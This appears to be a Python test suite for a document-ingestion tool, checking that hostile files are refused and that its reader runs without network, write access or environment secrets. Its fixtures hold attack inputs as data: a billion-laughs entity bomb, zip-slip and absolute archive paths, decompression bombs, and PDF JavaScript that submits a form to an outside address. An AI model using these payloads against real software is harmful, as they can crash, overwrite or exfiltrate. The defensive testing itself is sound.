"""Documents that are broken, or made to break their reader: each a clear error, and nothing half-added."""

import ctypes
import os
import re
import socket
import subprocess
import sys
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from asylia.home import home
from asylia.problems import Problem
from asylia.texts import extract as extracting
from asylia.texts.limits import Limits
from tests import documents

SAID = {"title": ["Invented"], "access": ["public"]}
BILLION = (
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "lake">'
    + "".join(f'<!ENTITY a{n} "{"&a;" if n == 0 else f"&a{n - 1};" * 10}">' for n in range(10))
    + "]><a>&a9;</a>"
)


@pytest.fixture
def add(fresh: Callable[[str], Any]) -> Callable[..., Any]:
    """``add(path)`` adds a file to an empty ledger."""
    db = fresh("sqlite")

    def do(path: Path, **options: Any) -> Any:
        from asylia.sources.add import add

        return add(db, path, SAID, by="c1", **options)

    return do


def nothing_was_added() -> bool:
    from asylia.ledger.models import LedgerRow
    from asylia.sources.models import Capture, TextLayer

    files = [path for folder in ("captures", "layers") for path in (home() / folder).glob("*")]
    return not files and not any(table.objects.exists() for table in (Capture, TextLayer, LedgerRow))


def _zip_slip() -> bytes:
    return documents.docx_with("../../escaped.xml", b"<a/>")


def _lying_size() -> bytes:
    """A part that unpacks to far more than the archive says."""
    data = documents.docx_with("word/extra.xml", b" " * 5_000_000)
    return data.replace((5_000_000).to_bytes(4, "little"), (50).to_bytes(4, "little"))


HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "encrypted.pdf": (documents.encrypted_pdf, "encrypted"),
    "truncated.pdf": (lambda: documents.pdf()[:-200], "cut off"),
    "broken.pdf": (lambda: b"%PDF-1.7\n" + os.urandom(4000) + b"\n%%EOF", "broken"),
    "no_pages.pdf": (lambda: documents.pdf().replace(b"[3 0 R]", b"[     ]"), "the PDF"),
    "bomb.docx": (lambda: documents.docx_with("word/bomb.xml", b" " * 30_000_000), "packed more than 200 times"),
    "many.docx": (lambda: documents.docx_with("word/large.bin", zlib.compress(b"x") * 9000), "limit is 100,000"),
    "lying.docx": (_lying_size, "archive cannot be read"),
    "slip.docx": (_zip_slip, "leads out of the archive"),
    "absolute.docx": (lambda: documents.docx_with("/etc/escaped.xml", b"<a/>"), "leads out of the archive"),
    "windows.docx": (lambda: documents.docx_with("C:\\escaped.xml", b"<a/>"), "leads out of the archive"),
    "laughs.docx": (lambda: documents.docx_with("word/document.xml", BILLION.encode(), instead=True), "XML entities"),
    "laughs16.docx": (
        lambda: documents.docx_with("word/document.xml", BILLION.encode("utf-16"), instead=True), "XML entities",
    ),
    "laughs.xml": (BILLION.encode, "XML file"),
    "broken.docx": (lambda: documents.docx()[:2000], "archive cannot be read"),
    "only.zip.docx": (lambda: b"PK\x05\x06" + b"\0" * 18, "no DOCX"),
    "old.doc": (lambda: b"\xd0\xcf\x11\xe0" + b"x" * 600, "old Word file"),
    "bomb.png": (lambda: documents.png(60_000, 60_000), "3,600,000,000 pixels; the limit is"),
    "broken.png": (lambda: documents.png(40, 40)[:60], "image is broken"),
    "wrong.txt": (lambda: "Рыбак уехал".encode("koi8-r"), "encoding is not certain"),
    "wrong.html": (lambda: b'<html><meta charset="utf-8"><p>caf\xe9 \xff and lakes</p></html>', "is not utf-8"),
    "binary.txt": (lambda: b"\x7fELF\x02\x01\0\0\xff\xfe\xff" * 50, "neither text nor"),
    "empty.txt": (lambda: b"", "empty"),
    "blank.txt": (lambda: b" \n\t\n", "empty"),
    "figures.txt": (lambda: b"1 2 3\n4 5 6\n", "no letter"),
    "script.html": (lambda: b"<!doctype html><script>document.write('lakes')</script>", "no letter"),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_it_is_refused_by_name_and_nothing_is_left(name: str, add: Callable[..., Any], tmp_path: Path) -> None:
    make, what = HOSTILE[name]
    path = tmp_path / name
    path.write_bytes(make())
    with pytest.raises(Problem, match=re.escape(what)) as refused:
        add(path, limits=Limits(unpacked=100_000) if name == "many.docx" else None)
    assert str(path) in str(refused.value)
    assert nothing_was_added()
    assert not list(tmp_path.glob("**/escaped*"))


def test_a_sparse_file_of_two_gigabytes_is_refused_at_once(add: Callable[..., Any], tmp_path: Path) -> None:
    path = tmp_path / "sparse.txt"
    with path.open("wb") as file:
        file.truncate(2_000_000_000)
    with pytest.raises(Problem, match="2,000 MB; the limit is 200 MB"):
        add(path)
    assert nothing_was_added()


def test_links_pipes_folders_and_devices_are_refused(add: Callable[..., Any], tmp_path: Path) -> None:
    (tmp_path / "real.txt").write_text(documents.FISHER)
    (tmp_path / "link.txt").symlink_to(tmp_path / "real.txt")
    os.mkfifo(tmp_path / "pipe.txt")
    (tmp_path / "folder.txt").mkdir()
    refusals = {
        "link.txt": "symbolic link",
        "pipe.txt": "no regular file",
        "folder.txt": "regular file",
        "no.txt": "opened",
    }
    for name, what in refusals.items():
        with pytest.raises(Problem, match=what):
            add(tmp_path / name)
    with pytest.raises(Problem, match="no regular file"):
        add(Path("/dev/zero"))
    assert nothing_was_added()


def test_a_text_beyond_the_limit_is_refused(add: Callable[..., Any], tmp_path: Path) -> None:
    path = tmp_path / "long.txt"
    path.write_text("lakes " * 5000)
    with pytest.raises(Problem, match="longer than 1,000 bytes"):
        add(path, limits=Limits(text=1000))
    with pytest.raises(Problem, match="the limit is 0 MB"):
        add(path, limits=Limits(size=1000))
    assert nothing_was_added()


def test_scripts_of_a_pdf_do_nothing_and_its_words_are_read(add: Callable[..., Any], tmp_path: Path) -> None:
    script = "<< /S /JavaScript /JS (app.alert('lakes'); this.submitForm('http://192.0.2.1/')) >>"
    path = tmp_path / "script.pdf"
    path.write_bytes(documents.pdf(extra=script, catalog="/OpenAction 6 0 R"))
    from asylia.sources.store import layer_text

    text = layer_text(add(path).layer)
    assert text.strip() == documents.FISHER
    assert "alert" not in text


def test_scripts_styles_and_what_is_hidden_in_a_page_are_dropped(add: Callable[..., Any], tmp_path: Path) -> None:
    path = tmp_path / "page.html"
    path.write_text(
        "<!doctype html><title>t</title><style>p{}</style><script>steal()</script><p onclick='x()'>He fished.</p>"
        "<div hidden>secret</div><div style='display: none'>secret</div><aside>An aside stays.</aside>"
        "<iframe src='http://192.0.2.1/'>framed</iframe><img src='http://192.0.2.1/x.png' alt='x'>"
    )
    from asylia.sources.store import layer_text

    assert layer_text(add(path).layer).split("\n") == ["He fished.", "", "An aside stays."]


@pytest.mark.parametrize(
    ("script", "limits", "what"),
    [
        ("kill -9 $$", Limits(), "signal 9"),
        ("kill -XCPU $$", Limits(cpu=7), "7 s of processor time"),
        ("kill -ABRT $$", Limits(), "MB of memory"),
        ("sleep 60", Limits(wall=1), "longer than 1 s"),
        ('echo \'{"text": "half\'', Limits(), "broke off"),
        ("exit 3", Limits(), "status 3"),
    ],
)
def test_a_reader_that_dies_leaves_nothing(
    script: str, limits: Limits, what: str, add: Callable[..., Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    reader = tmp_path / "reader"
    reader.write_text(f"#!/bin/sh\n{script}\n")
    reader.chmod(0o700)
    monkeypatch.setattr(extracting.sys, "executable", str(reader))  # type: ignore[attr-defined]
    path = tmp_path / "good.txt"
    path.write_text(documents.FISHER)
    with pytest.raises(Problem, match=what):
        add(path, limits=limits)
    assert nothing_was_added()


def test_memory_is_limited(add: Callable[..., Any], tmp_path: Path) -> None:
    path = tmp_path / "large.html"
    path.write_text("<!doctype html>" + "<p>lakes</p>" * 400_000)
    with pytest.raises(Problem, match=r"memory|cannot be read|die"):
        add(path, limits=Limits(memory=120_000_000))
    assert nothing_was_added()


def _inside(code: str, *arguments: str) -> subprocess.CompletedProcess[str]:
    program = f"from asylia.texts import child\nfrom asylia.texts.limits import Limits\nchild.shut_in(Limits())\n{code}"
    environment = {"PYTHONPATH": str(Path(extracting.__file__).parents[2]), "PATH": os.environ["PATH"]}
    return subprocess.run(
        [sys.executable, "-c", program, *arguments], env=environment, capture_output=True, text=True, check=False
    )


def test_the_reader_opens_no_socket() -> None:
    done = _inside("import socket\nsocket.create_connection(('127.0.0.1', 9))")
    assert "without a network" in done.stderr


def test_native_code_in_the_reader_reaches_no_network_either() -> None:
    if ctypes.CDLL(None).unshare(0):  # pragma: no cover
        pytest.skip("this system has no namespaces")
    with socket.create_server(("127.0.0.1", 0)) as server:
        code = """
import ctypes, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
there = struct.pack("=HHI8x", 2, int.from_bytes(int(sys.argv[1]).to_bytes(2, "big"), sys.byteorder), 0x0100007f)
print(libc.connect(libc.socket(2, 1, 0), there, 16))"""
        port = str(server.getsockname()[1])
        outside = subprocess.run([sys.executable, "-c", code, port], capture_output=True, text=True, check=True)
        assert outside.stdout.strip() == "0"
        assert _inside(code, port).stdout.strip() == "-1"


def test_the_reader_writes_no_file(tmp_path: Path) -> None:
    if ctypes.CDLL(None).syscall(444, None, ctypes.c_size_t(0), 1) < 1:  # the version of Landlock
        pytest.skip("this system has no Landlock")
    kept = tmp_path / "kept.txt"
    kept.write_text("words")
    for code in ("open(sys.argv[1], 'w')", "os.remove(sys.argv[1])", "os.mkdir(sys.argv[1] + '.d')"):
        assert "PermissionError" in _inside(f"import os, sys\n{code}", str(kept)).stderr
    assert kept.read_text() == "words"


def test_the_reader_knows_nothing_of_the_environment(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    reader, seen = tmp_path / "reader", tmp_path / "seen"
    reader.write_text(f"#!/bin/sh\nenv > {seen}\nexit 1\n")
    reader.chmod(0o700)
    monkeypatch.setenv("ASYLIA_DATABASE", "postgresql://c1:canary@localhost/x")
    monkeypatch.setattr(extracting.sys, "executable", str(reader))  # type: ignore[attr-defined]
    path = tmp_path / "good.txt"
    path.write_text(documents.FISHER)
    with pytest.raises(Problem), extracting.opened(path, Limits()) as file:
        extracting.extract(file, path)
    assert "canary" not in seen.read_text()
